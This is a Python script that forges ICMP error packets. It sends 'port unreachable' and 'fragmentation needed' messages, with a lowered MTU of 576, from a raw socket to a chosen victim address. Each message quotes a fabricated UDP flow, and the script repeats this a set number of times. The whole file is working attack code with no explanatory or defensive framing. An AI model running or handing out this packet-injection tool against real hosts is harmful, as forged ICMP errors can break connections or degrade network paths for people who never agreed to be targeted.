# Forged ICMP errors from a raw socket: port unreachable and fragmentation needed sent to
# VICTIM_IP, each quoting a UDP flow VICTIM_IP:5000 -> QUOTED_DST:53 that never existed,
# COUNT of each. The kernel writes our own (true) IP header; only the quote is a lie.
import socket, struct, sys

victim, quoted_dst, count = sys.argv[1], sys.argv[2], int(sys.argv[3])

def checksum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack(f'!{len(b) // 2}H', b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def quote():
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 28, 0x1234, 0, 64, 17, 0, socket.inet_aton(victim), socket.inet_aton(quoted_dst))
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return ip + struct.pack('!HHHH', 5000, 53, 8, 0)

def error(code, mtu):
    body = struct.pack('!BBHHH', 3, code, 0, 0, mtu) + quote()
    return body[:2] + struct.pack('!H', checksum(body)) + body[4:]

s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for _ in range(count):
    s.sendto(error(3, 0), (victim, 0))
    s.sendto(error(4, 576), (victim, 0))
print('sent', 2 * count)
